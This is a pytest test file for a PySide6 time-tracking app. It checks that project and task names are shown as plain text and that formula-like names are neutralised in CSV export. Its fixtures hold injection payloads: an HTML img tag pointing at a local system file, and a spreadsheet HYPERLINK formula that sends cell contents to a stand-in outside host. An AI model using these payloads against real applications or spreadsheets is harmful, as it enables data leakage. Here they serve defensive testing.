"""Names are text, never markup: a project or task named like HTML shows as
typed in the focus window, the tray's tooltip and menu, dialogs and error
lines, and a name like a formula is inert in the charts' CSV."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from PySide6.QtCore import Qt, QTimer
from PySide6.QtWidgets import QApplication, QLabel, QMessageBox, QWidget
from pytestqt.qtbot import QtBot

from smfocus.core.clock import FakeClock
from smfocus.insights import Insights
from smfocus.pomodoro import Timer
from smfocus.store.database import Store
from smfocus.tracker import Tracker
from smfocus.ui import dialogs
from smfocus.ui.charts_window import ChartsWindow, inert_rows
from smfocus.ui.focus_window import FocusWindow
from smfocus.ui.forms import FieldMessage
from smfocus.ui.tray import Tray

PROJECT = '<img src="file:///etc/hostname">'
TASK = "<b>x</b>"
SHOWN = f"{PROJECT} / {TASK}"


@pytest.fixture
def timer(tracker: Tracker) -> Timer:
    tracker.add_project(PROJECT)
    made = Timer(tracker)
    made.start(PROJECT, TASK)
    return made


def plain_labels(widget: QWidget) -> dict[str, Qt.TextFormat]:
    """Every label of ``widget`` that does not show its text as typed."""
    return {
        label.text(): label.textFormat()
        for label in widget.findChildren(QLabel)
        if label.text() and label.textFormat() != Qt.TextFormat.PlainText
    }


def test_the_focus_window_shows_a_task_named_like_html_as_typed(
    timer: Timer, qtbot: QtBot
) -> None:
    window = FocusWindow()
    qtbot.addWidget(window)
    window.show_state(timer.state())
    window.show()
    qtbot.waitExposed(window)

    assert window.task.text() == SHOWN
    assert window.task.textFormat() == Qt.TextFormat.PlainText
    # Drawn as text, pixel for pixel: HTML would have drawn a bold "x" and an image.
    as_text = QLabel(window)
    as_text.setTextFormat(Qt.TextFormat.PlainText)
    as_text.setWordWrap(True)
    as_text.setAlignment(window.task.alignment())
    as_text.setGeometry(window.task.geometry())
    as_text.setText(SHOWN)
    assert window.task.grab().toImage() == as_text.grab().toImage()
    assert plain_labels(window) == {}


def test_the_tray_tooltip_and_menu_show_names_as_typed(timer: Timer, qtbot: QtBot) -> None:
    state = timer.state()
    tray = Tray()
    last = ("R&D", "Q&A <i>")
    tray.set_recent([last])
    tray.show_state(state.phase, SHOWN, state.now, 0, 8, last)

    tooltip = tray.icon.toolTip()
    # A tooltip is rich text whenever Qt thinks it looks like HTML: ours always is,
    # with the name escaped, so it shows as typed.
    assert "&lt;b&gt;x&lt;/b&gt;" in tooltip and "&lt;img" in tooltip
    assert "<img" not in tooltip and "<b>" not in tooltip
    texts = [action.text() for action in tray.menu.actions() + tray.recent_menu.actions()]
    assert "R&&D / Q&&A <i>" in texts  # "&" is a literal, not a shortcut mark
    assert any(text.startswith("Start focus on R&&D") for text in texts)


def _answer_next_box(seen: list[dict[str, Qt.TextFormat]], texts: list[str]) -> None:
    def look() -> None:
        box = QApplication.activeModalWidget()
        assert isinstance(box, QMessageBox)
        seen.append(plain_labels(box))
        texts.extend([box.text(), box.informativeText()])
        box.reject()

    QTimer.singleShot(0, look)


def test_dialogs_quote_names_as_typed(qtbot: QtBot) -> None:
    seen: list[dict[str, Qt.TextFormat]] = []
    texts: list[str] = []

    _answer_next_box(seen, texts)
    dialogs.confirm_switch(SHOWN, "Beta / <u>y</u>")
    _answer_next_box(seen, texts)
    dialogs.show_error(f"The project {PROJECT} exists; choose another name.")

    assert seen == [{}, {}]
    assert f"You are focusing on {SHOWN}." in texts


def test_an_error_under_a_field_shows_a_name_as_typed(qtbot: QtBot) -> None:
    holder = QWidget()
    qtbot.addWidget(holder)
    message = FieldMessage(holder)

    message.show_error(f"A project named {PROJECT} exists already.")

    assert message.textFormat() == Qt.TextFormat.PlainText


# -- CSV --------------------------------------------------------------------------------

FORMULA_PROJECT = '=HYPERLINK("https://x.test/?"&A1, "open")'


def test_text_cells_are_made_inert_and_numbers_stay_numbers() -> None:
    header = ["project", "currency", "seconds", "hours", "roi", "note"]
    rows = [[FORMULA_PROJECT, "@EU", "3600", "1.00", "-0.5000", "+1 call"]]

    assert inert_rows(header, rows) == [
        [f"'{FORMULA_PROJECT}", "'@EU", "3600", "1.00", "-0.5000", "'+1 call"]
    ]


@pytest.fixture
def charts(store: Store, clock: FakeClock, qtbot: QtBot, tmp_path: Path) -> Iterator[ChartsWindow]:
    tracker = Tracker(store, clock, ZoneInfo("Europe/Paris"), user="tester")
    # A rate and a tiny value: a negative ROI, a number that starts with "-".
    tracker.add_project(FORMULA_PROJECT, rate="45", currency="EUR", value="1", value_per="month")
    tracker.add_project("-2+3")
    now = clock.now()
    tracker.add(FORMULA_PROJECT, "@SUM(A1:A9)", start=now - 7200, end=now - 3600)
    tracker.add("-2+3", None, start=now - 3600, end=now - 1800)
    window = ChartsWindow(Insights(tracker))
    qtbot.addWidget(window)
    window.set_range("all_time")
    window.show()
    qtbot.waitExposed(window)
    yield window
    window.close()


def read_csv(window: ChartsWindow, slug: str, folder: Path) -> list[dict[str, str]]:
    window.show_view(slug)
    target = folder / f"{slug}.csv"
    assert window.export_csv(target)
    with target.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_save_csv_neutralises_names_that_look_like_formulas(
    charts: ChartsWindow, tmp_path: Path
) -> None:
    time_rows = read_csv(charts, "time", tmp_path)
    assert {row["project"] for row in time_rows} == {f"'{FORMULA_PROJECT}", "'-2+3"}
    assert sorted(int(row["seconds"]) for row in time_rows) == [1800, 3600]

    roi_rows = {row["project"]: row for row in read_csv(charts, "roi", tmp_path)}
    paid = roi_rows[f"'{FORMULA_PROJECT}"]
    assert float(paid["roi"]) < 0 and paid["roi"].startswith("-")  # still a number
    assert paid["currency"] == "EUR"
